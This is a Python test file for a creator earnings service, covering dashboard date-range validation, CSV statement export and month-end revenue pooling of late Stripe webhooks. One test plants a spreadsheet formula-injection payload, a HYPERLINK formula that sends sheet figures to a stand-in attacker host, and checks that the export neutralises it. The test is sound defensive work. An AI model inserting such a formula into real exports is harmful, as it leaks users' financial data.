"""Defects found by the adversarial review of creators' earnings and payouts, each proven here against real
PostgreSQL (and the Stripe stand-in) through the API or the job functions, then fixed."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

from codex_graphql.authz import OrgRole
from codex_graphql.earnings import pool
from codex_graphql.relay import decode_id
from tests.earnings.test_pool import MARCH, march  # noqa: F401  (the fixture)
from tests.earnings.test_statements import MINE, creators, statement_actors  # noqa: F401  (the fixtures)
from tests.support.commerce import shop  # noqa: F401  (the fixture)

DASHBOARD = "query($from: Date, $to: Date) { viewer { creatorDashboard(from: $from, to: $to) { from to } } }"


async def test_a_dashboard_range_at_the_edge_of_the_calendar_is_bad_input_not_a_crash(gql, factory):
    owner = await factory.user()
    org = await factory.organization(owner)
    creator = await factory.user()
    await factory.member(org, creator, OrgRole.CREATOR)
    for variables in ({"to": "0001-01-05"}, {"from": None, "to": "0001-01-29"}):
        body = await gql(DASHBOARD, variables, creator.token)
        assert [e["extensions"]["code"] for e in body["errors"]] == ["BAD_USER_INPUT"], body
    assert (await gql.ok(DASHBOARD, {"from": "0001-01-01", "to": "0001-01-31"}, creator.token))[
        "viewer"]["creatorDashboard"] == {"from": "0001-01-01", "to": "0001-01-31"}


async def test_a_statement_never_hands_a_spreadsheet_a_formula_from_an_items_title(shop, creators, admin_db):  # noqa: F811
    # Titles are typed by staff and creators; a CSV opened in a spreadsheet runs a cell starting with = + - @ as a
    # formula (e.g. a HYPERLINK sending the sheet's figures elsewhere).
    formula = '=HYPERLINK("http://evil.example/?"&H2,"Open")'
    await admin_db.execute("update content set title = $1 where id = $2", formula, decode_id(shop.paid, "Content"))
    await shop.buy(await shop.factory.user())
    await creators.request(shop.creator)
    [job] = await creators.jobs()
    await creators.run(job)
    url = (await shop.gql.ok(MINE, token=shop.creator.token))["viewer"]["creatorStatements"]["nodes"][0]["url"]
    parsed = list(csv.reader(io.StringIO((await shop.http.get(url)).text)))
    [sale] = parsed[1:-1]
    assert sale[1] == "SALE" and sale[3] == "'" + formula  # shown as text, the title intact after the quote
    assert int(sale[7]) > 0 and parsed[-1][7] == sale[7]  # amounts are numbers, never quoted


async def test_an_invoice_paid_on_the_last_evening_but_delivered_late_is_in_its_months_pool(march, db, admin_db):  # noqa: F811
    # Stripe stamps ``paid_at`` when the invoice was paid and retries a webhook for up to three days: the hourly job
    # must not close March before a renewal paid on March 31 at 23:30 has been recorded, or its revenue is in no
    # period (the creators' part, the platform's and the organization's silently lost to the ledger).
    studio = march
    early = await pool.close_finished_months(db, now=datetime(2025, 4, 1, 0, 5, tzinfo=UTC))
    late_subscriber = await studio.factory.user(name="Late")
    await studio.invoice(late_subscriber, 600, 0, datetime(2025, 3, 31, 23, 30, tzinfo=UTC))  # recorded on April 2
    later = await pool.close_finished_months(db, now=datetime(2025, 4, 4, 0, 5, tzinfo=UTC))
    assert MARCH not in {p.period_start for p in early}  # too early for March (February, ended long ago, closes)
    assert sorted((p.period_start, p.currency) for p in later) == [(MARCH, "EUR"), (MARCH, "USD")]
    revenue = await admin_db.fetchval("select revenue_cents from creator_pool_period where organization_id = $1 "
                                      "and currency = 'USD' and period_start = $2", studio.org, MARCH)
    assert revenue == 3400 + 600
    assert await admin_db.fetchval("select sum(amount_cents) from earning_entry where kind = 'SUBSCRIPTION' and "
                                   "organization_id = $1 and currency = 'USD' and period_start = $2", studio.org, MARCH) == 4000
